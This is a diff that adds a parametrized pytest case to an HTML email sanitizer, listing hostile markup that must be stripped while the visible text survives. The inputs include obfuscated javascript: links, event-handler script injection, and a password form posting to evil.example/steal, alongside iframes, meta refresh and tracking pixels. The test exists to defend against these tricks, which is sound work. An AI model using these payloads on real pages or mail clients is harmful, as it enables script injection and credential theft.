@@ -227,3 +227,34 @@ def test_given_an_html_email_when_the_customer_page_is_opened_then_remote_images
 
     assert "The parcel never arrived." in html
     assert "tracker.example" not in html
+
+
+@pytest.mark.parametrize("hostile, forbidden", [
+    ('<a href="javascript:alert(1)">x</a>', "javascript"),
+    ('<a href="JaVaScRiPt:alert(1)">x</a>', "alert"),
+    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "alert"),
+    ('<a href=" javascript:alert(1)">x</a>', "alert"),
+    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
+    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data:"),
+    ('<img src="x" onerror="alert(1)">', "onerror"),
+    ('<svg onload="alert(1)"><circle/></svg>', "onload"),
+    ('<body onload="alert(1)"><p>x</p></body>', "onload"),
+    ('<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>', "form"),
+    ('<form action="https://evil.example/steal"><input name="password"></form>', "<input"),
+    ('<iframe src="https://evil.example"></iframe>', "iframe"),
+    ('<object data="evil.swf"></object><embed src="evil.swf">', "evil.swf"),
+    ('<p style="position:fixed;top:0;left:0;width:100%;height:100%">Your session expired</p>', "style"),
+    ('<div style="background:url(https://tracker.example/p.gif)">x</div>', "tracker.example"),
+    ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil.example"),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "evil.example"),
+    ('<base href="https://evil.example/">', "evil.example"),
+    ('<p class="topbar" id="csrf-token">spoofed chrome</p>', "csrf-token"),
+    ('<a href="https://shop.example" target="_blank">x</a>', "_blank"),
+])
+def test_given_hostile_html_when_sanitized_then_the_trick_is_gone_and_the_text_stays(hostile, forbidden):
+    clean = sanitize_html(hostile + "<p>visible words</p>")
+    shown = rendered(hostile + "<p>visible words</p>", load_images=True)["html"]
+
+    for html in (clean, shown):
+        assert forbidden.lower() not in html.lower()
+        assert "visible words" in html
